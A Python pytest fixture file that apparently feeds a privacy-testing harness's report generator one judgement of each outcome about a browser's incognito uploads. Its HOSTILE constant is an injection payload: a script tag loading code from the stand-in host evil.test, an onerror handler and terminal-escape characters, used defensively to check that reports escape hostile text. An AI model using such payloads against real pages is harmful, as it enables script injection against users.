"""Judgements to report on: one of each outcome, with hostile text where a phone chose it."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace

import pytest

from harness.ledger import Ledger
from harness.model.claim import Grade, Kind
from harness.model.judgement import (
    Alternative,
    ClosureState,
    ControlState,
    Coverage,
    Judgement,
    Origin,
    Outcome,
    Reason,
    Sensitivity,
    Value,
    Witness,
)
from harness.model.recording import RunFacts
from harness.report.background import NOTHING
from harness.report.context import Context, JudgedRun, UnmeasuredRun
from harness.report.verdict import verdict
from tests.judge.honest import tables

ARM = "mi-browser/restrictive/as-shipped/mode=incognito/visit3/r1"
GOLDEN = Path(__file__).parent / "golden"
HOSTILE = "</script><script src=//evil.test/x.js></script><img src=x onerror=1>\x1b[2J\u202e[bold]\udc80\r\n"


@pytest.fixture
def golden() -> Callable[[str, str], None]:
    """Compares with a golden file; a missing one is written and fails, so that somebody looks at it."""

    def compare(name: str, text: str) -> None:
        path = GOLDEN / name
        if not path.exists():
            path.parent.mkdir(exist_ok=True)
            path.write_text(text, "utf-8")
            pytest.fail(f"{path.name} was written: look at it and run again")
        assert text == path.read_text("utf-8")

    return compare


@pytest.fixture
def violated() -> Judgement:
    witness = Witness(
        exchange="000123",
        values=(
            Value(
                ("body", "form:data_list", "base64", "gzip", "json:[0].properties.url"),
                "plain",
                "canary query of visit 2",
                "https://c1.claims.test/a?q=9f2c" + HOSTILE,
            ),
        ),
        app="com.mi.globalbrowser",
        app_by="socket",
        destination="sa.api.intl.miui.com:443",
        controller="vendor",
        arm=ARM,
        detail="the event's time lies in this arm",
    )
    return Judgement(
        claim="INC-02",
        proposition="INC-02.address",
        kind=Kind.ABSENCE,
        scenario="incognito/browsing.feature::An address typed in incognito mode stays on the phone",
        app="com.mi.globalbrowser",
        rule="content-absence/1",
        outcome=Outcome.VIOLATED,
        because="the address visited in incognito mode reached sa.api.intl.miui.com",
        grade=Grade.SCREENING,
        origin=Origin.REHEARSAL,
        minimum_n=3,
        witnesses=(witness,),
        arms=(ARM,),
        coverage=Coverage(412, ("tls-refused play.googleapis.com",), ("quic 142.250.0.1:443",), ()),
        n=3,
        repeats=1,
        window_s=1500,
        labels=("screening", "instrumented only"),
        alternatives=(Alternative("the page's own request", "the host is no host of the page"),),
        interventions=("proxy", "own CA"),
    )


@pytest.fixture
def holding() -> Judgement:
    return Judgement(
        claim="INC-03",
        proposition="INC-03.silent",
        kind=Kind.ABSENCE,
        scenario="incognito/switch.feature::The switch stops the upload",
        app="com.mi.globalbrowser",
        rule="switch-effect/1",
        outcome=Outcome.HOLDS,
        because="one position is silent, the other uploads through the same channel",
        grade=Grade.SCREENING,
        origin=Origin.REHEARSAL,
        minimum_n=3,
        arms=("silent", "uploading"),
        coverage=Coverage(300, (), ("quic 142.250.0.1:443",), ()),
        controls=(
            ControlState("nonce at start", "silent", seen=True),
            ControlState("spike form", "uploading", seen=True),
        ),
        closure=(ClosureState("silent", "com.mi.globalbrowser", "netstats", 5120, 5000, 5100, 100),),
        sensitivity=Sensitivity(8, 8),
        permissive_uploads=4,
        n=3,
        repeats=1,
        bound95=0.6316,
        window_s=1500,
        labels=("instrumented only",),
    )


@pytest.fixture
def unproven(holding: Judgement) -> Judgement:
    return replace(
        holding,
        claim="INC-04",
        proposition="INC-04.content",
        scenario="incognito/search.feature::A search in incognito mode",
        outcome=Outcome.UNPROVEN,
        because="a gap in scope",
        reasons=(Reason("gap-in-scope", "tls-refused update.example" + HOSTILE),),
        bound95=None,
    )


@pytest.fixture
def not_applicable(holding: Judgement) -> Judgement:
    return replace(
        holding,
        claim="ANON-01",
        proposition="ANON-01.identifier",
        scenario="anonymity/token.feature::The token is random",
        outcome=Outcome.NOT_APPLICABLE,
        because="Mint Browser is not installed",
        reasons=(Reason("app-missing", "pm list packages: no com.mi.globalbrowser.mini"),),
        bound95=None,
    )


@pytest.fixture
def context(
    tmp_path: Path,
    violated: Judgement,
    holding: Judgement,
    unproven: Judgement,
    not_applicable: Judgement,
) -> Context:
    """One judged run with a verdict of each outcome, and a handset that was not judged."""
    judgements = (violated, holding, unproven, not_applicable)
    facts = RunFacts(
        id="20261122T143005Z-april-2020-1f3a9c",
        handset="april-2020",
        handset_kind="SIMULATED",
        grade="screening",
        date="2026-11-22",
        firmware="xiaomi/x:9/PKQ1" + HOSTILE,
        packages=(),
        network_mode="proxy",
        canary_domain="claims.test",
        proxy_address=("127.0.0.1", 1),
        services=(),
        calibration_app=None,
        vendor_accounts=0,
        interventions=(),
    )
    run = JudgedRun(
        handset="april-2020",
        recording=SimpleNamespace(path=tmp_path / facts.id),
        facts=facts,
        derived=tmp_path / f"{facts.id}.derived",
        seal="5e" * 32,
        judgements=judgements,
        verdicts={item.claim: verdict([item], ()) for item in judgements},
        background=NOTHING,
    )
    return Context(
        invocation="20261122T143000Z-7f3a9c",
        started="2026-11-22T14:30:00Z",
        ended="2026-11-22T14:52:10Z",
        exit_code=1,
        reports=tmp_path,
        generators=(tmp_path,),
        generator=None,
        ledger=_ledger(judgements),
        runs=(run,),
        unmeasured=(
            UnmeasuredRun(
                handset="pixel",
                id="20261122T143005Z-pixel-000000",
                derived=tmp_path / "20261122T143005Z-pixel-000000.derived",
                simulated=False,
                why="no phone answers" + HOSTILE,
            ),
        ),
        errors={"pixel": "no phone answers" + HOSTILE},
    )


def _ledger(judgements: tuple[Judgement, ...]) -> Ledger:
    """The claims of these judgements with one proposition each, and one claim that nobody tests.

    Their words are not the ledger's; Mint Browser lacks a judgement of the first.
    """
    ledger = tables().ledger
    claims = []
    for item in judgements:
        proposition = ledger.proposition(item.proposition)
        apps = [scope for scope in proposition.apps if not claims or scope.package == item.app]
        claims.append(
            replace(
                ledger.claim(item.claim),
                title=f"The title of {item.claim}",
                untested=None,
                propositions=(replace(proposition, apps=tuple(apps)),),
            )
        )
    other = next(claim for claim in ledger.claims if not claim.propositions)
    other = replace(other, id="CON-99", topic="consent", title="A title", untested="Not yet: no driver.")
    return replace(ledger, claims=(*claims, other))
